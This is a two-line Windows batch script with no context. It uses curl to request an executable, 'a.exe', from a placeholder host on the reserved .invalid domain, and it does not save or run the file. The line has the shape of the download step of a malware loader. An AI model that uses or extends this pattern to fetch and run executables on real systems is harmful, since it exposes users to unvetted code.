@echo off
curl http://x.invalid/a.exe
